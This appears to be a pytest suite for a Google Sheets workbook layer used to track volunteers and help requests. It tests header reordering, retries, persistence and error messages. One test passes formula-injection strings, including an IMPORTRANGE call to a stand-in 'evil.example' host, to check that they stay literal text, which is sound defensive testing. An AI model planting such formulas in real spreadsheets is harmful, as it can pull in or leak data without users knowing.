"""The Workbook over real gspread against the local Sheets server, on loopback."""

from __future__ import annotations

import time

import pytest

import local_sheets
from sheets_schema.errors import HelptError, MissingColumn, MissingTab, SheetsUnavailable
from sheets_schema.fields import LANGUAGES
from sheets_schema.layout import init_spreadsheet
from sheets_schema.tabs import REQUESTS, TABS, VOLUNTEERS
from sheets_schema.workbook import (
    RetryPolicy,
    Workbook,
    column_letters,
    find_columns,
    open_google,
    open_local,
    quote_title,
)

from .conftest import FAST_RETRY


def _init(workbook: Workbook) -> None:
    init_spreadsheet(workbook, TABS)


def _header(workbook: Workbook, tab) -> list[str]:
    title = workbook.find_tab(tab, workbook.metadata())["properties"]["title"]
    grid = workbook.values([f"{quote_title(title)}!1:1"])[0]
    return [str(v) for v in grid[0]]


def _insert_column(workbook: Workbook, sheet) -> None:
    """What a coordinator does with "Insert 1 column right" at the end of a tab."""
    workbook.batch_update([{"appendDimension": {"sheetId": sheet.sheet_id, "dimension": "COLUMNS", "length": 1}}])


def _volunteer(number: int, **fields: str) -> dict[str, str]:
    return {"volunteer_id": f"V-{number:06d}", "full_name": f"Person {number}",
            "postcode": "3000", "screening": "to_screen", "notes": "", **fields}


@pytest.mark.parametrize("language", LANGUAGES)
def test_header_found_after_coordinator_reorders_and_renames(server, language):
    workbook = open_local(server.url, token=server.token, title=f"reorder-{language}", retry=FAST_RETRY)
    _init(workbook)
    sheet = workbook.read([VOLUNTEERS])["volunteers"]
    workbook.append(sheet, [_volunteer(1, notes="calls back on Monday"), _volunteer(2)])

    # A coordinator reverses the column order and renames every header into `language`.
    header = _header(workbook, VOLUNTEERS)
    positions = find_columns(VOLUNTEERS, header)
    by_index = {index: column_id for column_id, index in positions.items()}
    grid = workbook.values([quote_title(sheet.title)])[0]
    width = len(header)
    rows = [row + [""] * (width - len(row)) for row in grid]
    reordered = [list(reversed(row)) for row in rows]
    reordered[0] = [VOLUNTEERS.column(by_index[i]).labels[language] for i in reversed(range(width))]
    workbook.write({f"{quote_title(sheet.title)}!A1": reordered})

    again = workbook.read([VOLUNTEERS])["volunteers"]
    assert again.positions["volunteer_id"] == width - 1 - positions["volunteer_id"]
    records = {r["volunteer_id"]: r for r in again.records()}
    assert records["V-000001"]["notes"] == "calls back on Monday"
    assert records["V-000001"]["full_name"] == "Person 1"
    assert records["V-000002"]["notes"] == ""


def test_coordinators_own_columns_are_left_alone(workbook):
    _init(workbook)
    sheet = workbook.read([REQUESTS])["requests"]
    own = f"{quote_title(sheet.title)}!{column_letters(len(sheet.header))}1"
    _insert_column(workbook, sheet)
    workbook.write({own: [["Mijn opmerking"], ["bel na 17u"]]})

    sheet = workbook.read([REQUESTS])["requests"]
    assert "Mijn opmerking" in sheet.header
    workbook.write({sheet.cell(2, "request_id"): [["R-000001"]], sheet.cell(2, "full_name"): [["A"]]})
    sheet = workbook.read([REQUESTS])["requests"]
    workbook.append(sheet, [{"request_id": "R-000002", "full_name": "B"}])

    grid = workbook.values([quote_title(sheet.title)])[0]
    own_index = grid[0].index("Mijn opmerking")
    assert [row[own_index] if len(row) > own_index else "" for row in grid] == [
        "Mijn opmerking", "bel na 17u", ""]
    assert "Mijn opmerking" not in {c.id for c in REQUESTS.columns}


def test_a_row_emptied_above_the_last_never_shifts_the_next_append(workbook):
    """An erasure leaves an empty row; rows with blank answers below it must not become the 'table'."""
    _init(workbook)
    sheet = workbook.read([VOLUNTEERS])["volunteers"]
    workbook.append(sheet, [{"volunteer_id": f"V-00000{n}", "full_name": f"P{n}", "notes": "x"} for n in (1, 2)])
    workbook.clear([sheet.whole_rows(2)])  # P1 erased
    workbook.append(sheet, [{"volunteer_id": "V-000003", "full_name": "P3", "notes": "y"}])
    records = [r for r in workbook.read([VOLUNTEERS])["volunteers"].records() if r["volunteer_id"]]
    assert [(r["volunteer_id"], r["full_name"], r["notes"]) for r in records] == [
        ("V-000002", "P2", "x"), ("V-000003", "P3", "y")]


@pytest.mark.parametrize("text", [
    '=IMPORTRANGE("https://evil.example/x","A1:Z")', '=HYPERLINK("http://x","click")',
    "+32 470 12 34 56", "-1+1", "@SUM(A1)", "=1+1",
])
def test_formula_looking_value_stays_text(workbook, text):
    _init(workbook)
    sheet = workbook.read([REQUESTS])["requests"]
    workbook.append(sheet, [{"request_id": "R-000001", "details": text}])
    workbook.write({sheet.cell(3, "details"): [[text]]})

    again = workbook.read([REQUESTS])["requests"]
    assert [r["details"] for r in again.records()] == [text, text]
    # What the sheet stores, not just what it shows: still the literal text, never a formula.
    stored = workbook.values([again.cell(2, "details"), again.cell(3, "details")], render="FORMULA")
    assert stored == [[[text]], [[text]]]


def test_missing_column_is_a_clear_error_naming_tab_and_column(workbook):
    _init(workbook)
    sheet = workbook.read([REQUESTS])["requests"]
    workbook.write({sheet.cell(1, "status"): [["something else"]]})
    with pytest.raises(MissingColumn) as error:
        workbook.read([REQUESTS])
    assert sheet.title in str(error.value) and "(status)" in str(error.value)


def test_missing_tab_is_a_clear_error(workbook):
    with pytest.raises(MissingTab, match="helpt init"):
        workbook.read([REQUESTS])


def test_a_read_is_two_calls_whatever_the_rows(workbook):
    _init(workbook)
    sheet = workbook.read([VOLUNTEERS])["volunteers"]
    workbook.append(sheet, [_volunteer(n) for n in range(1, 501)])
    before, waited = workbook.api_calls, workbook.api_seconds
    sheets = workbook.read(TABS)
    assert workbook.api_calls - before == 2
    assert workbook.api_seconds > waited  # what bench/sync.py reports as time spent waiting for the API
    assert len(sheets["volunteers"].rows) == 500


def test_429_bursts_are_retried(workbook, server):
    _init(workbook)
    sheet = workbook.read([REQUESTS])["requests"]
    server.faults.fail_next(2, 429)
    before = workbook.api_calls
    workbook.append(sheet, [{"request_id": "R-000001", "full_name": "A"}])
    assert workbook.api_calls - before == 3  # two refusals, then the append
    assert [r["request_id"] for r in workbook.read([REQUESTS])["requests"].records()] == ["R-000001"]


def test_permanent_503_ends_in_a_clear_error_within_bounded_time(server):
    waits: list[float] = []
    policy = RetryPolicy(attempts=5, first_delay=0.5, max_delay=2.0, timeout=10)
    workbook = open_local(server.url, token=server.token, title="outage", retry=policy, sleep=waits.append)
    _init(workbook)
    server.faults.update({"outage_code": 503})
    before = workbook.api_calls
    with pytest.raises(SheetsUnavailable, match="503"):
        workbook.read([REQUESTS])
    assert workbook.api_calls - before == policy.attempts
    assert len(waits) == policy.attempts - 1
    assert sum(waits) <= policy.worst_case_seconds() - policy.attempts * policy.timeout


def test_data_survives_a_server_restart(tmp_path):
    first = local_sheets.start(tmp_path)
    try:
        workbook = open_local(first.url, token=first.token, title="restart", retry=FAST_RETRY)
        _init(workbook)
        sheet = workbook.read([VOLUNTEERS])["volunteers"]
        workbook.append(sheet, [_volunteer(7, notes="é ü — 🙂")])
        spreadsheet_id = workbook.spreadsheet_id
    finally:
        first.stop()

    second = local_sheets.start(tmp_path)
    try:
        workbook = open_local(second.url, token=second.token, spreadsheet_id=spreadsheet_id, retry=FAST_RETRY)
        records = workbook.read([VOLUNTEERS])["volunteers"].records()
        assert [(r["volunteer_id"], r["notes"]) for r in records] == [("V-000007", "é ü — 🙂")]
    finally:
        second.stop()


@pytest.mark.parametrize("content", [None, "{not json", '{"type": "service_account"}'])
def test_google_backend_names_a_bad_service_account_key(tmp_path, content):
    key = tmp_path / "key.json"
    if content is not None:
        key.write_text(content)
    with pytest.raises(HelptError, match="service account key"):
        open_google("some-spreadsheet-id", str(key))


def test_an_append_whose_answer_is_lost_is_not_sent_again(workbook, server):
    _init(workbook)
    sheet = workbook.read([REQUESTS])["requests"]
    impatient = open_local(server.url, token=server.token, spreadsheet_id=workbook.spreadsheet_id,
                           retry=RetryPolicy(attempts=4, first_delay=0.01, timeout=0.2))
    appends_before = server.calls.get("POST values.append", 0)
    server.faults.update({"latency_ms": 600})  # the server applies it, the answer comes too late
    with pytest.raises(SheetsUnavailable):
        impatient.append(sheet, [{"request_id": "R-000001"}])
    assert impatient.api_calls_by_kind()[":append"] == 1
    server.faults.clear()
    deadline = time.monotonic() + 30
    while server.calls.get("POST values.append", 0) == appends_before and time.monotonic() < deadline:
        time.sleep(0.02)  # polling for the slow request to finish, with a deadline
    records = workbook.read([REQUESTS])["requests"].records()
    assert [r["request_id"] for r in records] == ["R-000001"]
